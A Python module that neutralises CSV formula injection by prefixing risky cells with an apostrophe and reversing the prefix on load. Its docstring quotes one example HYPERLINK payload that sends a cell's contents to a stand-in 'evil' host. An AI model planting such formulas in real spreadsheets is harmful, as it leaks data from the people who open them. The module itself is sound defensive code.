"""Formula injection in CSV files (OWASP "CSV Injection"): a cell that a spreadsheet would run.

A spreadsheet opening a CSV file treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a
project title taken from a third party's IATI file would run on an officer's machine. Every CSV
tacmap writes for people therefore prefixes such a cell with ``'``, as OWASP recommends, which a
spreadsheet shows as text.

The rule is made reversible so that bundle CSV files still round-trip exactly through
``tacmap load``: a text of zero or more ``'`` followed by a formula character gets one more
``'`` (:func:`neutralise`), and the reader takes exactly one off such a text (:func:`restore`).
So ``=1+1`` is written ``'=1+1`` and ``'=1+1`` is written ``''=1+1``; anything else is unchanged.
"""

from __future__ import annotations

import re

FORMULA_START = "=+-@\t\r"
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text, never runs (a ``'`` in front if needed)."""
    if text.lstrip("'")[:1] in tuple(FORMULA_START):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The value :func:`neutralise` was given, from what it wrote."""
    return text[1:] if _NEUTRALISED.match(text) else text
